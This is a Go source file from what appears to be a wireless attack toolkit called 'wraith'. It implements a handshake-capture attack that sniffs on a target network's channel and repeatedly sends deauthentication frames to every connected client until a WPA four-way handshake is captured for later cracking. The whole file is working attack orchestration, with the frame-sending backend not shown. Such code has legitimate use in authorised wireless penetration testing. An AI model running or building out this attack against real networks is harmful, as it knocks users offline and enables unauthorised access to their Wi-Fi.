package attack

import (
	"context"
	"errors"
	"time"

	"github.com/rs/zerolog"
	"github.com/rs/zerolog/log"

	"wraith/internal/models"
	"wraith/internal/orcherr"
)

// HandshakeAttack deauthenticates associated clients and waits for the
// resulting four-way handshake
type HandshakeAttack struct {
	capability
	backend        CaptureBackend
	deauthCount    int
	deauthInterval time.Duration
	logger         zerolog.Logger
}

// NewHandshake creates the deauthentication-triggered handshake strategy.
// count frames are sent to every client each round; a round lasts interval.
func NewHandshake(backend CaptureBackend, count int, interval time.Duration) *HandshakeAttack {
	if count <= 0 {
		count = 5
	}
	if interval <= 0 {
		interval = 10 * time.Second
	}
	return &HandshakeAttack{
		capability: capability{
			kind:           models.AttackHandshake,
			requiresClient: true,
			timeout:        120 * time.Second,
		},
		backend:        backend,
		deauthCount:    count,
		deauthInterval: interval,
		logger:         log.With().Str("component", "attack").Str("attack", string(models.AttackHandshake)).Logger(),
	}
}

// Execute runs deauth rounds until a handshake is captured or the timeout expires
func (a *HandshakeAttack) Execute(ctx context.Context, target *models.Target, timeout time.Duration) *models.AttackResult {
	const op = "attack.handshake"

	result := models.NewAttackResult(a.kind, target.ID)
	result.Start()

	if a.backend == nil {
		_ = result.Complete(models.ResultFailed, "", orcherr.E(op, orcherr.TransientFailure, errNoBackend))
		return result
	}
	if !target.HasClients() {
		_ = result.Complete(models.ResultFailed, "", orcherr.E(op, orcherr.PreconditionFailed, errNoClients))
		return result
	}

	timeout = a.effectiveTimeout(timeout)
	attemptCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	a.logger.Info().
		Str("target", target.ID).
		Int("clients", len(target.Clients)).
		Dur("timeout", timeout).
		Msg("Starting handshake capture")

	_, err := await(attemptCtx, func(ctx context.Context) (struct{}, error) {
		return struct{}{}, a.backend.StartCapture(ctx, target.ID, target.Channel)
	})
	if err != nil {
		finish(ctx, result, op, err)
		return result
	}
	defer func() {
		if err := a.backend.StopCapture(target.ID); err != nil {
			a.logger.Warn().Err(err).Str("target", target.ID).Msg("Failed to stop capture")
		}
	}()

	rounds := 0
	for {
		rounds++
		result.SetDetail("deauthRounds", rounds)

		for _, client := range target.Clients {
			client := client
			_, err := await(attemptCtx, func(ctx context.Context) (struct{}, error) {
				return struct{}{}, a.backend.SendDeauth(ctx, target.ID, client, a.deauthCount)
			})
			if err != nil {
				if attemptCtx.Err() != nil {
					finish(ctx, result, op, attemptCtx.Err())
					return result
				}
				a.logger.Debug().Err(err).Str("target", target.ID).Str("client", client).Msg("Deauth failed")
			}
		}

		artifact, ok, err := a.waitRound(attemptCtx, target.ID)
		if ok {
			_ = result.Complete(models.ResultSuccess, artifact, nil)
			break
		}
		if attemptCtx.Err() != nil {
			finish(ctx, result, op, attemptCtx.Err())
			break
		}
		if err != nil {
			finish(ctx, result, op, err)
			break
		}
	}

	a.logger.Info().
		Str("target", target.ID).
		Str("status", string(result.Status)).
		Int("rounds", rounds).
		Dur("duration", result.Duration()).
		Msg("Handshake attack finished")

	return result
}

// waitRound waits up to one deauth interval for a handshake. A round that
// ends without one returns ok=false and a nil error.
func (a *HandshakeAttack) waitRound(ctx context.Context, bssid string) (string, bool, error) {
	roundCtx, cancel := context.WithTimeout(ctx, a.deauthInterval)
	defer cancel()

	capture, err := await(roundCtx, func(ctx context.Context) (captureOutcome, error) {
		artifact, ok, err := a.backend.WaitHandshake(ctx, bssid)
		return captureOutcome{artifact: artifact, ok: ok}, err
	})
	if err != nil {
		if errors.Is(err, context.DeadlineExceeded) && ctx.Err() == nil {
			return "", false, nil
		}
		return "", false, err
	}
	if !capture.ok {
		// Nothing yet; let the round run out before deauthing again
		<-roundCtx.Done()
	}
	return capture.artifact, capture.ok, nil
}
